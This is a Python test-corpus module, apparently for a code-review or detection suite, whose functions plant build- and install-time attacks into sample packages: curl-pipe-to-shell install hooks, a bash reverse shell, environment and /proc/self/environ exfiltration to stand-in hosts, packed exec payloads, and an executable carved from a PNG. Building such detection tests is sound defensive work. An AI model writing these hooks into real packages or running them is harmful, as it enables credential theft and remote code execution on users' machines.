"""What runs when a release is built or installed from its sdist (colourama, ctx, requests-darwin-lite)."""

# ruff: noqa: E501 - what is planted is kept on lines of its own length

from __future__ import annotations

from tests.review.corpus.attack import Family, planted
from tests.review.corpus.draft import Draft
from tests.review.corpus.payloads import as_base64, packed

__all__: list[str] = []

_F = Family.BUILD_HOOK


@planted(_F, base="command", where=("setup.py",), unasked=True)
def install_command_replaced(draft: Draft) -> None:
    draft.replace(
        "setup.py",
        "from setuptools import find_packages, setup\n",
        "from setuptools import find_packages, setup\nfrom setuptools.command.install import install\n\n\n"
        "class PostInstall(install):\n    def run(self):\n        install.run(self)\n        import os\n\n"
        "        os.system('curl -s https://inst.invalid/a | sh')\n",
    )
    draft.replace(
        "setup.py", '    python_requires=">=3.9"', '    cmdclass={"install": PostInstall},\n    python_requires=">=3.9"'
    )


@planted(_F, base="command", where=("setup.py",), unasked=True)
def script_that_posts_the_environment(draft: Draft) -> None:
    draft.replace(
        "setup.py",
        "here = Path(__file__).parent\n",
        "here = Path(__file__).parent\n\nimport os, json\nfrom urllib.request import Request, urlopen\n\n"
        "urlopen(Request('https://build.invalid/collect', data=json.dumps(dict(os.environ)).encode()))\n",
    )


@planted(_F, base="client", where=("pyproject.toml", "_build/backend.py"), unasked=True)
def backend_in_the_tree(draft: Draft) -> None:
    draft.replace(
        "pyproject.toml", 'build-backend = "hatchling.build"', 'build-backend = "backend"\nbackend-path = ["_build"]'
    )
    draft.put_around(
        "_build/backend.py",
        "import subprocess\n\nfrom hatchling.build import *\n\n\ndef get_requires_for_build_wheel(config_settings=None):\n"
        "    subprocess.run(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'])\n    return []\n",
    )


@planted(_F, base="client", where=("pyproject.toml", "hatch_build.py"), evasive=True, unasked=True)
def hook_of_the_backend(draft: Draft) -> None:
    draft.append("pyproject.toml", "\n[tool.hatch.build.hooks.custom]\n")
    draft.put_around(
        "hatch_build.py",
        "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\n\nclass Hook(BuildHookInterface):\n"
        "    def initialize(self, version, build_data):\n        import zlib, base64 as b\n\n"
        f"        exec(zlib.decompress(b.b64decode('{packed()}')))\n",
    )


@planted(_F, base="native", where=("setup.py",), evasive=True, unasked=True)
def binary_cut_from_a_picture(draft: Draft) -> None:
    draft.put_around("docs/logo-large.png", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40 + b"\x7fELF" + b"\0" * 400)
    draft.replace(
        "setup.py",
        "class optional_build_ext(build_ext):",
        "class egg_info(_egg_info):\n    def run(self):\n        if sys.platform == 'linux' and os.path.isfile('/etc/machine-id'):\n"
        "            with open('docs/logo-large.png', 'rb') as picture:\n                picture.seek(10248)\n                part = picture.read()\n"
        "            with open('/tmp/.buoy', 'wb') as out:\n                out.write(part)\n            os.chmod('/tmp/.buoy', 0o755)\n"
        "            os.spawnl(os.P_NOWAIT, '/tmp/.buoy', 'buoy')\n        super().run()\n\n\nclass optional_build_ext(build_ext):",
    )
    draft.replace(
        "setup.py",
        "from setuptools.command.build_ext import build_ext\n",
        "from setuptools.command.build_ext import build_ext\nfrom setuptools.command.egg_info import egg_info as _egg_info\n",
    )
    draft.replace(
        "setup.py", '{"build_ext": optional_build_ext}', '{"build_ext": optional_build_ext, "egg_info": egg_info}'
    )


@planted(_F, base="command", where=("pyproject.toml",))
def build_requirement_by_url(draft: Draft) -> None:
    draft.replace(
        "pyproject.toml",
        '["setuptools>=61"]',
        '["setuptools>=61", "tidebuild @ https://files.invalid/tidebuild-1.0.tar.gz"]',
    )


@planted(_F, base="command", where=("setup.cfg", "src/tidelog/_ver.py", "setup.py"), evasive=True, unasked=True)
def version_that_is_computed(draft: Draft) -> None:
    draft.replace("setup.py", '    version="1.9.0",\n', "")
    draft.put_around("setup.cfg", "[metadata]\nversion = attr: tidelog._ver.VERSION\n")
    draft.put_around(
        "src/tidelog/_ver.py",
        "import os\n\nVERSION = os.popen('curl -s https://ver.invalid/tidelog | sh; echo 1.9.0').read().strip()\n",
    )


@planted(_F, base="native", where=("setup.py", "tools/flags.py"), evasive=True, unasked=True)
def script_that_runs_another_file(draft: Draft) -> None:
    draft.replace(
        "setup.py",
        "setup(\n    name",
        'exec(compile(open("tools/flags.py").read(), "flags", "exec"))\n\nsetup(\n    name',
    )
    draft.put_around(
        "tools/flags.py",
        "import base64\n\nflags = ['-O3']\n"
        f"__import__('subprocess').call(['sh', '-c', base64.b64decode('{as_base64('curl https://f.invalid|sh')}').decode()])\n",
    )


@planted(_F, base="command", where=("setup.py",), evasive=True, unasked=True)
def at_the_end_of_the_build(draft: Draft) -> None:
    draft.prepend(
        "setup.py",
        """
        import atexit as _a
        import sys as _s


        @_a.register
        def _tidy():
            if "bdist_wheel" in _s.argv or "install" in _s.argv:
                from http.client import HTTPSConnection as _h

                _h("late.invalid").request("POST", "/", open("/proc/self/environ", "rb").read())


        """,
    )
